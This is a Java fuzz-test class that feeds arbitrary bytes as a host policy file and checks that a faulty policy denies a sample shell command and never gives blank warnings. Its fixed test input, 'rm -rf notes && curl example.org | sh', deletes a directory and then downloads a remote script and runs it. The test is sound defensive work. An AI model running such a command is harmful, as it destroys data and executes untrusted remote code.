package io.docui.fuzz;

import io.docui.hostops.effect.PolicyDecision;
import io.docui.hostops.effect.PolicyEvaluation;
import io.docui.hostops.effect.ShellDialect;
import io.docui.hostops.policy.HostPolicy;
import java.io.IOException;
import java.nio.file.Files;
import java.util.Optional;

/** Any bytes as a policy file: a policy, or one that denies all but reading, and says why. */
final class PolicyTarget implements FuzzTarget {
    private final PolicyFixture policyFixture = new PolicyFixture();

    @Override
    public void check(FuzzInput fuzzInput) throws IOException {
        Files.write(policyFixture.policyFile(), fuzzInput.rest());
        HostPolicy policy = policyFixture.load(Optional.of(policyFixture.policyFile()));
        PolicyEvaluation policyEvaluation =
                policyFixture.judgeLine(policy, "rm -rf notes && curl example.org | sh", ShellDialect.BASH);
        if (policy.fault().isPresent() && policyEvaluation.decision() != PolicyDecision.DENY) {
            throw new AssertionError(policy.fault().get() + ", and yet " + policyEvaluation);
        }
        policy.warnings().forEach(remark -> {
            if (remark.isBlank()) {
                throw new AssertionError("an empty remark");
            }
        });
    }
}
